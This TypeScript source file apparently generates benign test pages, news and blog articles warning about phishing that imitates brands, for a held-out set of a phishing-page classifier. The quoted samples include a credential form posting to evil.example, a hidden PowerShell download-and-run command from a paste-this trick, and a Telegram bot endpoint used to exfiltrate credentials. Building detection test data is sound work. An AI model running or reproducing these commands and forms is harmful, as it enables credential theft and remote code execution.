import type { Family } from '../../family.ts'
import { brandOf, calledBy } from '../../make/brands.ts'
import { companyOf, honestHost } from '../../make/hosts/hosts.ts'
import { documentOf, escaped, filler, footerOf, STATIC } from '../../make/pages/layout.ts'
import { search, subscribe } from './side-forms.ts'

const QUOTED =
  '<form action="https://evil.example/login.php" method="post"><input type="password" name="pass"></form>'

export const phishingArticle: Family = {
  id: 'phishing_article',
  expected: 'benign',
  split: 'held-out',
  make(chance) {
    const host = honestHost(chance, ['blog.', 'www.', ''])
    const site = companyOf(host)
    const brand = brandOf(chance)
    const name = calledBy(brand, chance)
    const title = chance.of([
      `New phishing campaign imitates ${name}`,
      `How to recognise fake ${name} emails`,
      `${name}: Vorsicht vor Phishing`,
      `Warning: ${name} phishing`,
      `${name}をかたるフィッシング`,
      `Attention au phishing : ${name}`,
      `Anatomy of a ${name} phishing kit`,
    ])
    const quotes = chance.some(
      [
        `<blockquote>"Your ${escaped(name)} account has been suspended. Confirm your password and card number within 24 hours."</blockquote>`,
        `<pre><code>${escaped(QUOTED)}</code></pre>`,
        `<p>The page at <code>https://${brand.domains[0]}.account-verify.example/login</code> asks for password, one-time code and card number.</p>`,
        `<p>Victims were told to press Windows + R, paste with Ctrl + V and press Enter, which ran <code>powershell -w hidden -c "iex (iwr https://evil.example/a)"</code>.</p>`,
        '<p>Never enter your 12-word seed phrase on a website. Attackers call setApprovalForAll and drain wallets.</p>',
        `<img src="/img/fake-${brand.id}.png" alt="Screenshot of the fake ${escaped(name)} login page">`,
        '<p>The kit sends credentials to api.telegram.org/bot123:ABC/sendMessage.</p>',
      ],
      2 + chance.below(4),
    )
    const body = documentOf(
      {
        language: 'en',
        title: `${title} | ${site}`,
        heading: title,
        logo: `<a href="/">${escaped(site)}</a>`,
        main:
          search(chance) +
          filler('en', 2, chance) +
          quotes.join(filler('en', 1, chance)) +
          filler('en', 2, chance) +
          subscribe(chance),
        footer: footerOf('en', site, ['/about'], chance),
        skeletons: STATIC,
        head: chance.maybe(0.5) ? `<meta property="og:site_name" content="${escaped(site)}">` : '',
      },
      chance,
    )
    return {
      url: `https://${host}/${chance.of(['2026/11', 'news', 'posts'])}/${brand.id}-phishing`,
      body,
      isHonest: true,
    }
  },
}
